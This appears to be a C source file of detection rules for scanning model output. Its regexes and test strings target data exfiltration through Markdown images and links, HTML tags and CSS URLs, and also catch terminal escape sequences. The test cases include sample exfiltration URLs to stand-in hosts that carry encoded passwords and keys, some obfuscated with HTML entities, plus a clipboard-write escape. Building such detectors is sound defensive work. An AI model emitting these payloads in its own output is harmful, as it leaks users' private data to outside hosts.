/*
 * Answers that a page or a terminal does something with: addresses that carry
 * data away when a picture is shown or a link followed, control sequences.
 *
 * Which hosts may be spoken to is a matter of policy; the rules look at what an
 * address carries.
 */

#include "llmg_checksum.h"
#include "llmg_rules.h"


/* an address elsewhere; what carries data is up to the check */
#define BYTE       "[^\\s\"'<>()\\[\\]]"
#define ELSEWHERE  "(?:https?:)?//" BYTE "{4,400}"

/*
 * The same in Markdown, where a character of it may be a reference of HTML, and
 * which browsers get with their slashes turned.
 */
#define AWAY       "(?:(?:https?:)?[/\\\\]{2}|[a-z:/]{0,7}&[#a-z0-9]{2,7};)"

/* up to its bracket; one that has not come by then goes on with a tail */
#define CLOSED(c)  AWAY "(?:" BYTE "{4,399}+" c "|" BYTE "{400})"

#define LONG50     "dXNlciBlbWFpbCBhbm5hQGV4YW1wbGUgYW5kIHBhc3N3b3JkIA"
#define LONG400    LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50

/* between the brackets of a text */
#define ALT        "[^\\[\\]\\n]{0,120}"


const llmg_rule_t  llmg_rules_exfil[] = {

    {
        .name = "exfil.markdown_image",
        .type = "EXFIL_MARKDOWN",
        .severity = LLMG_SEVERITY_HIGH,
        .confidence = 85,
        .caseless = 1,
        .max = 620,
        .literals = llmg_list("!["),
        .pattern = "!\\[" ALT "\\]\\(\\s{0,4}<?"
                   CLOSED(">?(?:\\s{1,4}[\"'][^\"'\\n]{0,80}[\"'])?"
                          "\\s{0,4}\\)"),
        .tail = BYTE,
        .stop = ')',
        .ends = ")",
        .check = llmg_check_exfil_image,
        .match = llmg_list(
            "![x](https://a.example/p.png?q=the%20api%20key%20is%2012345)",
            "![](http://203.0.113.9/conversation+summary:+salary+90k.gif)",
            "![a](<//c2.example/1.png?d=cGFzc3dvcmQgaHVudGVyMg>)",
            "![x](//a.example/p?q=the%20key%20is%2012345#//b.example/)",
            "![x](https://a.example/U1NOIG9uIGZpbGU.gif)",
            "![x](https&#58;//a.example/p?q=the%20api%20key%20is%2012345)",
            "![x](https:&#x2f;&sol;a.example/?the%20api%20key%20is%2012345)",
            "![x](&#104;ttps://a.example/p?q=the%20api%20key%20is%2012345)",
            "![x](https://a.example/p?q=" LONG400),
        .no_match = llmg_list(
            "![logo](/static/logo.png)",
            "![logo](img&amp;more/a-picture-of-the-whole-team-2024.png)",
            "![logo](https://www.example.com/a.png?a=1&amp;width=640.png)",
            "![logo](https://www.example.com/img/logo.png)",
            "![c](https://thelongestcompanynameofallthecity.example/a.png)",
            "![d](https://www.example.com/img/documentationoverview.png)",
            "![b](https://img.shields.io/badge/build-passing-green.svg)",
            "![v](https://cdn.example.com/a.png?v=3&w=640)"),
    },

    {
        .name = "exfil.markdown_link",
        .type = "EXFIL_MARKDOWN",
        .severity = LLMG_SEVERITY_MEDIUM,
        .confidence = 75,
        .caseless = 1,
        .max = 620,
        .literals = llmg_list("](http", "](//", "](<http", "](<//", "](&#"),
        .pattern = "(?<!\\!\\[)\\]\\(<?" CLOSED(">?\\s{0,4}\\)"),
        .tail = BYTE,
        .stop = ')',
        .ends = ")",
        .check = llmg_check_exfil_link,
        .match = llmg_list(
            "[details](https://a.example/?d=70617373776f72642068756e74657232)",
            "[here](https://a.example/go?s=dXNlciBlbWFpbCBhbm5hQGV4YW1wbGU)",
            "[here](https://a.example/go?s=" LONG400),
        .no_match = llmg_list(
            "[search](https://www.example.com/search?q=nginx+module&page=2)",
            "[docs](https://docs.example.com/en/latest/index.html#start)",
            "[rfc](https://www.rfc-editor.org/rfc/rfc9110)"),
    },

    {
        .name = "exfil.markdown_reference",
        .type = "EXFIL_MARKDOWN",
        .severity = LLMG_SEVERITY_MEDIUM,
        .confidence = 75,
        .caseless = 1,
        .max = 480,
        .literals = llmg_list("]: http", "]: //", "]:http", "]: <http"),
        .pattern = "\\]:\\s{0,4}<?" ELSEWHERE,
        .ends = "a blank, a line end",
        .check = llmg_check_exfil_link,
        .match = llmg_list(
            "[r1]: https://a.example/c?data=7573657220656d61696c20616e6e61"),
        .no_match = llmg_list(
            "[1]: https://www.rfc-editor.org/rfc/rfc9110",
            "[docs]: https://docs.example.com/a/b?page=2"),
    },

    {
        .name = "exfil.html",
        .type = "EXFIL_HTML",
        .severity = LLMG_SEVERITY_HIGH,
        .confidence = 85,
        .caseless = 1,
        .max = 640,
        .literals = llmg_list("<img", "<iframe", "<script", "<video",
                              "<audio", "<embed", "<object", "<source",
                              "<input", "<link", "<svg", "<image", "<form",
                              "<bgsound", "<track", "<body", "<table"),
        .pattern = "<(?:img|iframe|script|video|audio|embed|object|source"
                   "|input|link|svg|image|form|bgsound|track|body|table)"
                   "\\b[^>]{0,200}?(?:src|href|srcset|data|action|poster"
                   "|background|srcdoc|formaction)\\s{0,3}=\\s{0,3}[\"']?"
                   "[^\"'>]{0,60}?" ELSEWHERE "[^>]{0,60}>?",
        .ends = ">",
        .check = llmg_check_exfil_image,
        .match = llmg_list(
            "<img src=\"https://a.example/p.gif?d=user+email+anna\">",
            "<iframe srcdoc=\"<img src=https://a.example/?password+1>\">",
            "<img src=//a.example/?the+key+is+1 srcset='//b.example/1'>"),
        .no_match = llmg_list(
            "<img src=\"assets/a.png\" alt=\"a\">",
            "<img src=\"https://www.example.com/logo.png\">",
            "<script src=\"https://cdn.example.com/lib/v3.2/app.min.js\">"),
    },

    {
        .name = "exfil.html_link",
        .type = "EXFIL_HTML",
        .severity = LLMG_SEVERITY_MEDIUM,
        .confidence = 75,
        .caseless = 1,
        .max = 640,
        .literals = llmg_list("<a href", "<a class", "<a target", "<a id",
                              "<a rel", "<a style", "<a title", "<area"),
        .pattern = "<(?:a|area)\\b[^>]{0,160}?href\\s{0,3}=\\s{0,3}[\"']?"
                   ELSEWHERE "[^>]{0,60}>?",
        .ends = ">",
        .check = llmg_check_exfil_link,
        .match = llmg_list(
            "<a href='https://a.example/go?s=dXNlciBlbWFpbCBhbm5hQGV4YW1wbA'>"),
        .no_match = llmg_list(
            "<a href=\"https://www.example.com/search?q=nginx\">",
            "<a href=\"/x?d=70617373776f72642068756e74657232\">"),
    },

    {
        .name = "exfil.css",
        .type = "EXFIL_HTML",
        .severity = LLMG_SEVERITY_HIGH,
        .confidence = 80,
        .caseless = 1,
        .max = 480,
        .literals = llmg_list("url(http", "url(//", "url('", "url(\"",
                              "@import"),
        .pattern = "(?:url\\(\\s{0,2}[\"']?|@import\\s{1,2}[\"'])" ELSEWHERE
                   "[\"']?\\)?",
        .ends = ") or a quote",
        .check = llmg_check_exfil_image,
        .match = llmg_list(
            "<div style=\"background:url(//a.example/b?password%20hunter2)\">",
            "@import \"https://a.example/b?cGFzc3dvcmQgaHVudGVyMg\";"),
        .no_match = llmg_list(
            "background: url(https://www.example.com/bg.png)",
            "url('/static/a.png')"),
    },

    /* ---- terminals: ECMA-48 ---- */

    /* colors come with everything that is copied from a terminal */

    {
        .name = "hidden.ansi",
        .type = "ANSI_ESCAPE",
        .severity = LLMG_SEVERITY_LOW,
        .confidence = 55,
        .max = 280,
        .literals = llmg_list("\x1B[", "\x1B(", "\x1B)", "\x1B" "P", "\x1BX",
                              "\x1B^", "\x1B_", "\x1B" "c", "\x1B" "7",
                              "\x1B" "8", "\xC2\x9B"),
        .pattern = "(?:(?:\\x1B\\[|\\xC2\\x9B)"
                   "[0-9;?=]{0,24}[ -/]{0,2}[@-~]){1,4}"
                   /* concealed, or written where it cannot be seen */
                   "(?:(?<=\\[8m|[JHf])[^\\s\\x1B]{1,100}"
                   "(?:\\x1B\\[(?:28|0)?m)?)?"
                   "|\\x1B[PX^_][^\\x1B\\n]{0,240}(?:\\x1B\\\\)?"
                   "|\\x1B[()][0-9A-Z]|\\x1B[c78]",
        .ends = "its last letter, ST",
        .match = llmg_list(
            "red \x1B[31mtext",
            "\x1B[8mhidden\x1B[28m",
            "\xC2\x9B" "31m"),
        .no_match = llmg_list(
            "[31m",
            "\xC2\xA9 2024"),
    },

    /* links, the clipboard, the title: a terminal does something */

    {
        .name = "hidden.ansi_command",
        .type = "ANSI_ESCAPE",
        .severity = LLMG_SEVERITY_HIGH,
        .confidence = 85,
        .max = 280,
        .literals = llmg_list("\x1B]", "\xC2\x9D"),
        .pattern = "(?:\\x1B\\]|\\xC2\\x9D)(?:[0-9]{1,4};"
                   "[^\\x07\\x1B\\n]{0,240}(?:\\x07|\\x1B\\\\)?"
                   "(?:[^\\s\\x1B]{1,60}\\x1B\\]8;;\\x07)?"
                   "|[0-9;]{0,8}[A-Za-z]?)",
        .ends = "BEL, ST",
        .match = llmg_list(
            "\x1B]8;;https://example.com/\x07link\x1B]8;;\x07",
            "\x1B]52;c;aGk=\x07"),
        .no_match = llmg_list(
            "\x1B[31m",
            "]8;;https://example.com/"),
    },

    {
        .name = "hidden.ansi_text",
        .type = "ANSI_ESCAPE_TEXT",
        .severity = LLMG_SEVERITY_LOW,
        .confidence = 55,
        .caseless = 1,
        .max = 64,
        .literals = llmg_list("\\x1b", "\\u001b", "\\033", "\\e[", "\\e]",
                              "\\x9b", "\\x9d", "\\27["),
        .pattern = "\\\\(?:x1b|u001b|033|e|27)[\\[\\]][0-9;?]{0,24}"
                   "(?:[A-Za-z]|(?=\\\\))?"
                   "|\\\\(?:x9b|x9d)[0-9;?]{0,24}[A-Za-z]",
        .match = llmg_list(
            "printf \"\\x1b[31mred\"",
            "\\u001b[0m",
            "\\033]8;;h"),
        .no_match = llmg_list(
            "\\x1bad",
            "C:\\e",
            "\\0331"),
    },

    { .name = NULL }
};
